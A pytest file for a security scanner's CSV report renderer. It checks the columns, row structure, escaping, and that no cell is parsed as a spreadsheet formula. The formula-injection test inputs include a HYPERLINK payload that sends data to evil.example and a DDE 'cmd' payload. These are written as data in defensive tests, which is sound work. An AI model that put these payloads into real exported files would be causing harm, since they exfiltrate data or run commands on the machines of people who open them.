"""CSV: its columns, and that no cell is a formula, whatever the spreadsheet takes for its separator."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest

from reports.csv_report import COLUMNS, render
from scanner.findings import Finding
from scanner.report import Report
from tests.reports import mixed_sample, sample


def read(report: Report) -> list[dict[str, str]]:
    text = render(report)
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def message_of(text: str) -> str:
    finding = msgspec.structs.replace(sample.report().findings[0], message=text)
    (row,) = read(sample.assemble((finding,), ()))
    return row["message"]


def test_the_columns_stay_as_they_are() -> None:
    assert render(sample.clean_report()) == (
        "schema,fingerprint,status,severity,confidence,rule_id,title,message,account_id,region,resource_type,"
        "resource_name,resource_arn,state,accepted_by,accepted_reason,accepted_owner,accepted_expires,accepted_expired,"
        "remediation,breaks,references,compliance\r\n"
    )


def test_one_row_for_each_finding() -> None:
    report = mixed_sample.report()
    rows = read(report)

    assert {row["fingerprint"] for row in rows} == {finding.fingerprint for finding in report.findings}
    assert {row["schema"] for row in rows} == {"guardrift/csv/1"}
    assert all(set(row) == set(COLUMNS) for row in rows)
    assert [row["accepted_expired"] for row in rows if row["accepted_by"]] == ["no", "no", "yes"]
    assert {row["state"] for row in rows} == {"", "new", "unchanged", "worse", "resolved"}
    assert {row["status"] for row in rows} == {"fail", "unknown"}


def test_several_values_in_a_cell() -> None:
    first: Finding = sample.report().findings[0]
    changed = msgspec.structs.replace(first, references=("a|b", "c"))
    (row,) = read(sample.assemble((changed,), ()))

    assert row["references"].split("|") == ["a\\u007cb", "c"]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1", "'=1", '"=1', "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
        '=HYPERLINK("https://evil.example?"&A1)', "-2+3+cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(text: str) -> None:
    assert message_of(text)[0] in "'\\"


@pytest.mark.parametrize("text", ["x;=1", "x; =1", 'x;"=1', "x;@SUM(A1)", "x;;=1"])
def test_no_cell_is_a_formula_where_the_separator_is_a_semicolon(text: str) -> None:
    cells = message_of(text).split(";")
    assert not any(cell.lstrip(" \"'").startswith(("=", "@")) and not cell.startswith("'") for cell in cells)


@pytest.mark.parametrize("text", ["a=b", "a-b", "a;b", 'a "b", c', "role/x@y", "ü", "'quoted'"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert message_of(text) == text


def test_every_row_is_one_line() -> None:
    text = message_of("a\nb\r\nc\x00\u2028d")

    assert text == "a\\nb\\r\\nc\\u0000\\u2028d"
    assert len(render(sample.report()).split("\r\n")) == len(sample.report().findings) + 2
